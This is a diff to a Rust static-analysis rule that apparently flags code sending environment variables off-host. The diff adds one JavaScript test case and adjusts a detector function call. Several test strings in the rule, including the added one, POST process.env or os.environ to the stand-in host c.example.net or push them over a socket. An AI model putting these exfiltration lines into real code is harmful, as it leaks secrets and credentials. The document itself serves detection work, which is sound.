@@ -18,6 +18,7 @@ pub static ENVIRONMENT: Rule = Rule {
         ("x.js", "fetch('https://c.example.net', { method: 'POST', body: JSON.stringify(process.env) })"),
         ("x.js", "app.get('/debug', (req, res) => res.json(process.env))"),
         ("x.js", "const all = { ...process.env }; axios.post(u, all)"),
+        ("x.js", "const tell = (o) => fetch('https://c.example.net', { method: 'POST', body: o }); tell(process.env);"),
         ("x.py", "import os, requests\nrequests.post('https://c.example.net', json=dict(os.environ))"),
         ("x.py", "import os\nfor k, v in os.environ.items():\n    sock.send((k + v).encode())"),
     ],
@@ -265,7 +266,7 @@ pub(super) fn call(call: &Call<'_>, line: usize, found: &mut Found<'_>) {
         && sends
         && let Target::Host(host) = target(call)
     {
-        asked::sent(call, &host, line, found);
+        asked::sent(&host, line, found);
     }
     if sends && let Target::Host(host) = target(call) {
         asked::passed_on(call, &host, marks, line, found);
